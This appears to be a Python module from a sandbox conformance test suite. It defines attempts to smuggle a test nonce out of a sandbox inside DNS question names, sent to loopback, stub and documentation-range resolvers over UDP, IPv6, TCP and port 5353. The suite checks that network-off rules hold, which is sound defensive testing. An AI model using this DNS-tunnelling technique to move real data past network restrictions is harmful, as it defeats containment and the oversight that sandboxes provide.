"""Carry data out in the name of a DNS question: allowing only DNS is allowing a channel."""

from __future__ import annotations

from conformance.attempts.net.common import call, dns_question, reach
from conformance.core.attempt import Armed, Attempt, Need
from conformance.core.scene import Scene
from conformance.core.words import Severity
from conformance.witnesses.listeners import on_loopback
from sandbox.policy.rules import RuleKind


def _over_tcp(nonce: str) -> str:
    """Over TCP a message has its length before it (RFC 1035, 4.2.2)."""
    question = dns_question(nonce)
    return "\x00" + chr(len(question)) + question


def _loopback(scene: Scene) -> Armed:
    nonce = scene.nonce()
    resolver = on_loopback(nonce, datagram=True)
    scene.keep_open(resolver.sock)
    return call(scene, "127.0.0.1", resolver, dns_question(nonce), datagram=True)


def _stub(scene: Scene) -> Armed:
    return reach(scene, "127.0.0.53", 53, dns_question, datagram=True)


def _public(scene: Scene) -> Armed:
    return reach(scene, "203.0.113.53", 53, dns_question, datagram=True)


def _public6(scene: Scene) -> Armed:
    return reach(scene, "2001:db8::53", 53, dns_question, datagram=True)


def _tcp(scene: Scene) -> Armed:
    return reach(scene, "203.0.113.53", 53, _over_tcp)


def _multicast_port(scene: Scene) -> Armed:
    return reach(scene, "203.0.113.53", 5353, dns_question, datagram=True)


NETWORK = frozenset((Need.NETWORK,))
WAYS = {
    "loopback": (_loopback, frozenset[Need](), "a resolver on the host's loopback"),
    "stub": (_stub, NETWORK, "127.0.0.53:53, where systemd-resolved listens"),
    "public": (_public, NETWORK, "a resolver elsewhere"),
    "public6": (_public6, NETWORK, "a resolver elsewhere, over IPv6"),
    "tcp": (_tcp, NETWORK, "a resolver elsewhere, over TCP"),
    "other-port": (_multicast_port, NETWORK, "a resolver on port 5353"),
}

FAMILY = {
    name: Attempt(
        title=f"Ask {where} for a name whose first label carries the data.",
        requirement="No DNS question leaves the sandbox.",
        violates=RuleKind.NET_OFF,
        severity=Severity.HIGH,
        arm=arm,
        needs=needs,
        references=("RFC 1035", "RFC 7766", "CVE-2025-55284"),
    )
    for name, (arm, needs, where) in WAYS.items()
}
